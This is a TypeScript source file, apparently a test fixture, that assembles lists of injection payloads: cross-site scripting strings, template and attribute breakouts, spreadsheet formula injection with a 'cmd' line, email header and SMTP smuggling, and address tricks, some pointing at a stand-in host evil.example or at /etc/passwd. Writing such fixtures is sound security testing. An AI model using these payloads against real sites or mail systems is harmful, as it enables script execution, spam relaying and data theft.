/*
 * Texts that people type into fields to make a page or a mail do something. Each script calls `ran(…)`, which
 * no page defines: a browser that defines it notices when a script runs.
 */

const call = 'ran(1)';

/** Endings of places where a text may be, so that a script may follow. */
const ends = [
  ...['', '</script>', '</title>', '</textarea>', '</style>', '-->', ']]>', '">', "'>", '\u001b$B'],
  ...['<svg>', '<template>', '<xmp>', '<!DOCTYPE html>', '<math><mtext><table><mglyph><style>'],
];

/** Elements that run one of their attributes on their own: when loaded, shown, focused, or moved. */
const callers = [
  ...[
    'img src=x onerror',
    'img/src=x/onerror',
    'img src=x:x onerror\u00a0',
    'IMG SRC=x OnErRoR',
    'svg onload',
  ],
  ...[
    'svg/onload',
    'body onload',
    'input autofocus onfocus',
    'select autofocus onfocus',
    'audio src=x onerror',
  ],
  ...[
    'details open ontoggle',
    'video src=x onerror',
    'marquee onstart',
    'div style="animation-name:x" onanimationstart',
  ],
  ...['div style="position:fixed;inset:0" onmouseover', 'svg><animate attributeName=x dur=1s onbegin'],
];

const addressed = [
  ...['iframe src', 'object data', 'embed src', 'a href', 'form action', 'button formaction', 'base href'],
  ...['img src', 'script src', 'link rel=stylesheet href'],
];

const markup = [
  ...ends.map((end) => `${end}<script>${call}</script>`),
  ...callers.map((caller) => `<${caller}="${call}">`),
  ...addressed.flatMap((name) => [`<${name}="javascript:${call}">x`, `<${name}="//evil.example/x">x`]),
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\u0000>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<svg/onload=${call}//`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<?xml version="1.0"?><x onload=${call}/>`,
  ...['<plaintext>', '<!--', '<![CDATA[', '<'],
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

const breakouts = [
  ...['"', "'", '`'].map((quote) => `${quote} onmouseover=${quote}${call}${quote} x=${quote}`),
  ...["'", '"', '\\"', "\\'", ''].map((quote) => `${quote};${call};//`),
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'vbscript:'].map(
    (way) => way + call,
  ),
  ...[`\${${call}}`, `#{${call}}`, `{{= ${call} }}`, `<%= ${call} %>`, `[[${call}]]`, `{${call}}`],
  `{{constructor.constructor('${call}')()}}`,
  `{%raw%}${call}{%endraw%}`,
  `\u2028${call}\u2028`,
  `*/${call}/*`,
  `" autofocus onfocus="${call}`,
  `"style="background:url(//evil.example/x)"`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  ...['//evil.example/x', 'https://evil.example/login', '![x](//evil.example/pixel.gif)'],
  `[click](javascript:${call})`,
  ...["$&$`$'$1$<x>", '%s%n%x', '__proto__', 'constructor', '{"toString":"x"}'],
  `=HYPERLINK("//evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `<mj-raw><script>${call}</script></mj-raw>`,
  `<mj-include path="/etc/passwd" />`,
  ...['\u202eevil.example\u202c', 'x\u0000y'],
];

const lineBreaks = ['\r\n', '\n', '\r', '\u2028', '%0d%0a', '\\r\\n', '\u0085', '\u000b'];

const injected = [
  ...['Bcc: you@victims.example', 'Cc: you@victims.example', 'To: you@victims.example', 'Subject: Buy now'],
  ...['From: boss@victims.example', 'Reply-To: you@victims.example', 'Content-Type: text/html'],
  ...['MIME-Version: 1.0', 'X-Injected: yes', '\r\n<html>Buy now</html>'],
];
const headerInjections = lineBreaks.flatMap((lineBreak) =>
  injected.map((header) => `Maya${lineBreak}${header}`),
);

const smtp = [
  '\r\n.\r\nMAIL FROM:<boss@victims.example>\r\nRCPT TO:<you@victims.example>\r\nDATA\r\nBuy now\r\n.\r\n',
  '\n.\nMAIL FROM:<boss@victims.example>\nRCPT TO:<you@victims.example>\nDATA\n',
  '\r.\rRCPT TO:<you@victims.example>',
  ...['.', '..', 'Maya <you@victims.example>', 'Maya, you@victims.example', 'Maya; you@victims.example'],
  ...['"Maya" <you@victims.example>, x', 'Maya\\" <you@victims.example>', '<you@victims.example>'],
  ...['=0D=0ABcc: you@victims.example', 'you@victims.example', 'group: you@victims.example;'],
  '=?utf-8?q?Maya=0d=0aBcc:_you@victims.example?=',
  '=?utf-8?b?TWF5YQ0KQmNjOiB5b3VAdmljdGltcy5leGFtcGxl?=',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  `Maya\u0000Bcc: you@victims.example`,
];

export const payloads: readonly string[] = [...markup, ...breakouts, ...headerInjections, ...smtp];

const swallowing =
  /<(script|style|xmp|template|noscript|textarea|title|select|svg|math|iframe|object|video|marquee)\b/gi;

/** @returns several payloads as one text in which none hides the next: each is closed after its end */
export function together(list: readonly string[]): string {
  const closed = list.map((payload) => {
    const ends = [...payload.matchAll(swallowing)].map(([, tag]) => `</${tag}>`).reverse();
    return payload + ends.join('') + (payload.includes('<!') ? '-->' : '');
  });
  // Nothing can close this one.
  const isLast = (payload: string) => Number(payload.includes('<plaintext'));
  return closed.sort((a, b) => isLast(a) - isLast(b)).join('\n\n');
}

const me = 'me@customers.example';
const you = 'you@victims.example';

/** For address fields: addresses that also name another person, or no person at all. */
export const addressPayloads: readonly string[] = [
  ...headerInjections.map((injection) => injection.replace('Maya', me)),
  ...[', ', ';', ' ', '\0', '\u2028'].map((separator) => me + separator + you),
  ...[`a,b<${you}>`, `me<${you}>@customers.example`, `"me" <${you}>`, `"${you}"@customers.example`],
  ...[`${me}(${you})`, `${me} (${you})`, `"${me}" <${you}>`, `group:${me},${you};`, `${me}%0d%0aBcc:${you}`],
  ...['me@[127.0.0.1]', `@victims.example:${me}`, `${me}>\r\nRCPT TO:<${you}`, 'me\uff20customers.example'],
  ...['"<script>ran(1)</script>"@customers.example', '<img src=x onerror=ran(1)>@customers.example'],
];
